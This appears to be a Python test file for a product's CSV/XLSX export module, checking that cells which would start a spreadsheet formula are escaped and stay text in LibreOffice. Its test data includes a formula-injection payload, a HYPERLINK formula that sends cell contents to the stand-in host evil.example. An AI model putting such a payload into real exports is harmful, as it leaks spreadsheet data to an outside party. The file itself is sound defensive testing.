"""Formula-safe exports (issue 10, OWASP "CSV Injection"): every cell the product writes
for a spreadsheet goes through app/exports.py."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import shutil
import subprocess
import uuid
from decimal import Decimal
from pathlib import Path

import pytest

from app.exports import csv_bytes, safe_cell
from tenants import services
from tests.conftest import login

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


@pytest.mark.parametrize("text", [EVIL, "+33 1 02", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_text_that_would_start_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


def test_numbers_and_plain_text_are_written_as_they_are():
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50") and safe_cell(-3) == -3
    assert safe_cell("Parking A") == "Parking A" and safe_cell(None) == "" and safe_cell(True) == "oui"
    assert csv_bytes([[EVIL, 1]], header=["nom", "n"]) == "\ufeffnom;n\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"clic\"\")\";1\r\n".encode()


def soffice_path() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if not found:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail("LibreOffice not found (make test installs it: make office)")
        pytest.skip("LibreOffice not found (make office)")
    return found


async def test_a_site_named_like_a_formula_comes_out_as_text_in_the_example_csv(client, db, demo, tmp_path: Path):
    cpam = uuid.UUID(demo["tenant_ids"]["cpam"])
    async with db.transaction([cpam], actor={"user_id": None, "label": "test"}) as session:
        tenant = await services.get_tenant(session, cpam)
        # Sorted first by name, so the example file is built on it.
        await services.create_site(session, cpam, {"name": EVIL, "insee_code": tenant.insee_code})
    await login(client, "admin@cpam72.demo")
    response = await client.get(f"/t/{cpam}/bornes/import/modele.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][2] == "'" + EVIL

    # The office suite a buyer opens it with reads text, not a formula.
    soffice = soffice_path()
    source = tmp_path / "bornes-modele.csv"
    source.write_bytes(response.content)
    await asyncio.to_thread(subprocess.run, [soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--convert-to", "xlsx",
                    "--infilter=CSV:59,34,76,1", "--outdir", str(tmp_path), str(source)],
                   check=True, capture_output=True, timeout=180)
    from openpyxl import load_workbook

    cell = load_workbook(tmp_path / "bornes-modele.xlsx").active["C2"]
    assert cell.data_type == "s" and "HYPERLINK" in str(cell.value) and not str(cell.value).startswith("=")


# --------------------------------------------------------------------------- the streamed CSV/XLSX writer


async def test_the_xlsx_writer_types_its_cells_and_libreoffice_reads_the_same_numbers(tmp_path: Path):
    import datetime as dt

    from openpyxl import load_workbook

    from app.exports import write_export

    moment = dt.datetime(2026, 12, 3, 13, 5, 7, 123456, tzinfo=dt.UTC)
    rows = [[EVIL, Decimal("-12.50"), 3, moment, dt.date(2026, 12, 1), None, True],
            ["Parking A", Decimal("1234.125"), 0, moment, dt.date(2026, 12, 2), "", False]]
    header = ["Nom", "Montant", "Recharges", "Le", "Jour", "Vide", "Actif"]

    async def produced():  # an async source, as database batches are
        for row in rows:
            yield row

    xlsx = await write_export("xlsx", header, produced(), tz="Indian/Reunion", sheet="Essai")
    sheet = load_workbook(xlsx).active
    assert sheet.title == "Essai"
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == header
    # Text stays text (never a formula), numbers are numbers, instants the tenant's wall-clock time to the second.
    assert values[1] == ["'" + EVIL, -12.5, 3, dt.datetime(2026, 12, 3, 17, 5, 7), dt.datetime(2026, 12, 1), None, "oui"]
    assert sheet["B2"].data_type == "n" and sheet["D2"].is_date and sheet["A2"].data_type == "s"
    assert sheet["B3"].number_format == "0.000"

    text = await write_export("csv", header, rows, tz="Indian/Reunion")
    lines = text.read_text("utf-8-sig").splitlines()
    assert lines[1].split(";")[1:5] == ["-12.50", "3", "2026-12-03 17:05:07", "2026-12-01"]

    soffice = soffice_path()
    await asyncio.to_thread(subprocess.run, [soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless",
                                             "--convert-to", "csv:Text - txt - csv (StarCalc):59,34,76,1",
                                             "--outdir", str(tmp_path), str(xlsx)],
                            check=True, capture_output=True, timeout=180)
    office = list(csv.reader(io.StringIO((tmp_path / (xlsx.stem + ".csv")).read_text("utf-8")), delimiter=";"))
    assert office[1][0] == "'" + EVIL
    assert [Decimal(r[1].replace(",", ".")) for r in office[1:]] == [Decimal("-12.5"), Decimal("1234.125")]
    assert [int(r[2]) for r in office[1:]] == [3, 0]
    assert office[1][3] == "03/12/2026 17:05:07"
    xlsx.unlink()
    text.unlink()


async def test_an_export_longer_than_its_bound_is_refused_and_leaves_no_file(tmp_path: Path, monkeypatch):
    import tempfile

    from app.exports import TooManyRows, write_export

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    for fmt in ("csv", "xlsx"):
        with pytest.raises(TooManyRows, match="limité à 3 lignes"):
            await write_export(fmt, ["n"], ([i] for i in range(4)), max_rows=3)
    assert not list(tmp_path.glob("centrale-export-*"))  # noqa: ASYNC240 - a test's own directory
